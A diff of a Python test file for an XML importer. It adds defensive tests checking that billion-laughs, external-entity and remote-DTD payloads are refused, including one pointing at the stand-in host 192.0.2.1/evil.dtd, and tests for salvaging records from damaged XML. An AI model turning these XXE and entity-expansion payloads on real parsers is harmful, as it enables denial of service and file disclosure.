@@ -23,12 +23,21 @@ EXTERNAL = b"""<?xml version="1.0"?>
 <a>&xxe;</a>"""
 PARAMETER = b"""<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]><a/>"""
 HIDDEN_SUBSET = b"""<!DOCTYPE a SYSTEM "a>b" [<!ENTITY x "y">]><a>&x;</a>"""
+HIDDEN_BY_COMMENT = b"<!-- <!DOCTYPE a> -->" + BILLION_LAUGHS.partition(b"?>")[2].strip()
 ATTRIBUTE = b"""<!DOCTYPE a [<!ENTITY x "y">]><a b="&x;"/>"""
 
 
 @pytest.mark.parametrize(
     "attack",
-    [BILLION_LAUGHS, EXTERNAL, PARAMETER, HIDDEN_SUBSET, ATTRIBUTE, BILLION_LAUGHS.decode().encode("utf-16")],
+    [
+        BILLION_LAUGHS,
+        EXTERNAL,
+        PARAMETER,
+        HIDDEN_SUBSET,
+        HIDDEN_BY_COMMENT,
+        ATTRIBUTE,
+        BILLION_LAUGHS.partition(b"?>")[2].strip().decode().encode("utf-16"),
+    ],
 )
 def test_declared_entities_are_refused(attack: bytes) -> None:
     """A document type that declares entities is refused, whatever the encoding, and nothing is expanded."""
@@ -93,13 +102,28 @@ def test_formulas_are_read_and_said() -> None:
     assert "image" in remarks[1]
 
 
+def _cut(xml: bytes) -> list[str]:
+    with pytest.raises(etree.XMLSyntaxError) as caught:
+        parse_xml(xml, PATH)
+    found = cut_records(xml, PATH, "R", caught.value)
+    return [str(item) if isinstance(item, ImportRefusedError) else text_of(item) for item in found]
+
+
 def test_records_of_a_damaged_document_are_cut_out() -> None:
-    """Whole records are read; a damaged and a cut one are said to be so."""
+    """Whole records are read; a damaged and a cut one are said to be so, after the document itself."""
     xml = b"<?xml version='1.0' encoding='UTF-8'?><S><R a='1'>x</R><R><b></R><R>\xc3\xbc</R><R>cut"
-    found = [item if isinstance(item, str) else text_of(item) for item in cut_records(xml, "R")]
-    assert found == [
+    assert _cut(xml) == [
+        "x.xml: is damaged XML (line 1: Opening and ending tag mismatch: b line 1 and R); "
+        "2 whole records were read",
         "x",
-        "is not well-formed XML (Opening and ending tag mismatch: b line 1 and R)",
+        "x.xml: record 2: is not well-formed XML (Opening and ending tag mismatch: b line 1 and R)",
         "ü",
-        "breaks off before its end",
+        "x.xml: record 4: breaks off before its end",
     ]
+
+
+def test_a_document_without_a_whole_record_is_one_line() -> None:
+    """Where nothing can be saved, one line says so."""
+    for xml in (b"<S><R>cut", b"no XML", b"<S>"):
+        (line,) = _cut(xml)
+        assert line.endswith("no whole record could be read; get the file again")
